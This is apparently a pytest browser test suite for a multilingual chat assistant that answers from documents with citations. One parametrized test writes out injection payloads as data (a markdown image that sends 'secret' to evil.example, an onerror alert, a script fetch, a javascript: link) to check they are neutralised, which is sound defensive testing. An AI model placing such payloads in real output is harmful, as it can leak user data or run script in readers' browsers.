"""The chat in a real browser: people type, read and click."""

import pytest

from assistant import ScriptedChat

from .conftest import ask

pytestmark = pytest.mark.browser

QUESTIONS = {
    "en": "How many billion dollars will Bank of China invest?",
    "fr": "Combien de milliards de dollars Bank of China va-t-elle investir ?",
    "de": "Wie viele Milliarden Dollar investiert die Bank of China?",
    "it": "Quanti miliardi di dollari investirà Bank of China?",
}


def test_a_question_in_each_language_is_answered_with_its_source(serve, visit, seeds):
    page = visit(serve(seeds))
    for number, (language, question) in enumerate(QUESTIONS.items(), start=1):
        ask(page, question)
        turn = page.locator(".turn").nth(number - 1)
        assert turn.get_attribute("lang") == language
        assert "138" in turn.locator(".answer").inner_text()
        assert "138 milliards de dollars" in page.locator("#shelf mark").first.inner_text()
    assert page.foreign == []


def test_a_click_on_a_citation_opens_its_place(serve, visit, seeds):
    page = visit(serve(seeds))
    ask(page, QUESTIONS["fr"])
    link = page.locator(".turn a.cite").first
    link.click()
    card = page.locator(".card:target")
    assert card.count() == 1
    assert card.locator("h2 span").inner_text() == link.inner_text()
    assert "003_8240679369d577f5.txt:2" in card.inner_text()


def test_a_refusal_shows_what_comes_nearest_and_cites_nothing(serve, visit, seeds):
    page = visit(serve(seeds))
    ask(page, "Quanto è alto il Monte Bianco?")
    assert page.locator(".answer.declined").inner_text().startswith("I documenti non rispondono")
    assert page.locator("a.cite").count() == 0
    assert page.locator(".nearest li").count() > 0


def test_what_is_not_supported_is_marked_with_its_reason(serve, visit, tmp_path):
    (tmp_path / "docs").mkdir()
    text = "The bridge over the river was opened in May. It cost 12 million euros.\n"
    (tmp_path / "docs" / "bridge.txt").write_text(text, encoding="utf-8")
    model = ScriptedChat(["It was opened in May [1]. It cost 21 million euros [1]."])
    page = visit(serve(tmp_path / "docs", model))
    ask(page, "What did the bridge cost?")
    doubt = page.locator(".doubt")
    assert doubt.count() == 1
    assert "21 million" in doubt.inner_text()
    assert doubt.get_attribute("title")


@pytest.mark.parametrize(
    "payload",
    [
        "![x](https://evil.example/?q=secret)",
        "<img src=https://evil.example/x.png onerror=alert(1)>",
        "<script>fetch('https://evil.example')</script>",
        "[click](javascript:alert(1))",
    ],
    ids=["G02-image", "G02-html", "G02-script", "G03-link"],
)
def test_nothing_a_model_or_a_document_says_leaves_the_page(serve, visit, tmp_path, payload):
    (tmp_path / "docs").mkdir()
    text = f"The bridge was opened in May. {payload}\nIt cost 12 million euros.\n"
    (tmp_path / "docs" / "bridge.txt").write_text(text, encoding="utf-8")
    model = ScriptedChat([f"The bridge was opened in May [1]. {payload} [1]"])
    page = visit(serve(tmp_path / "docs", model))
    alerts = []
    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
    ask(page, "When was the bridge opened?")
    page.wait_for_timeout(300)
    assert page.foreign == []
    assert alerts == []
    assert page.locator("#talk img, #talk script, #shelf img, #shelf script").count() == 0
    for link in page.locator("#talk a, #shelf a").all():
        assert link.get_attribute("href").startswith("#t")


def test_a_failing_model_is_one_plain_sentence(serve, visit, seeds):
    page = visit(serve(seeds, "m", base_url="http://127.0.0.1:9/v1", deadline=3.0))
    page.fill("#box textarea", "Was ist los?")
    page.press("#box textarea", "Enter")
    page.wait_for_selector(".trouble", timeout=20_000)
    assert "127.0.0.1:9" in page.locator(".trouble").inner_text()
    assert page.locator("#box textarea").input_value() == "Was ist los?"


def test_two_readers_do_not_see_each_other(serve, visit, seeds):
    address = serve(seeds)
    first, second = visit(address), visit(address)
    ask(first, QUESTIONS["de"])
    ask(second, QUESTIONS["it"])
    assert first.locator(".question").all_inner_texts() == [QUESTIONS["de"]]
    assert second.locator(".question").all_inner_texts() == [QUESTIONS["it"]]
    first.click("#new")
    first.wait_for_selector(".welcome")
    assert second.locator(".turn").count() == 1


def test_on_a_phone_nothing_is_wider_than_the_screen(serve, visit, seeds):
    page = visit(serve(seeds), viewport={"width": 390, "height": 844}, color_scheme="dark")
    ask(page, QUESTIONS["en"])
    assert page.evaluate("document.documentElement.scrollWidth") <= 390


def test_the_named_endpoint_gives_the_contracts_json(serve, seeds):
    from gradio_client import Client

    answer = Client(serve(seeds), verbose=False).predict(QUESTIONS["fr"], api_name="/ask")
    assert answer["language"] == "fr"
    cited = answer["citations"][0]
    source = (seeds / cited["file"]).read_text(encoding="utf-8")
    assert source[cited["start"] : cited["end"]] == cited["quote"]
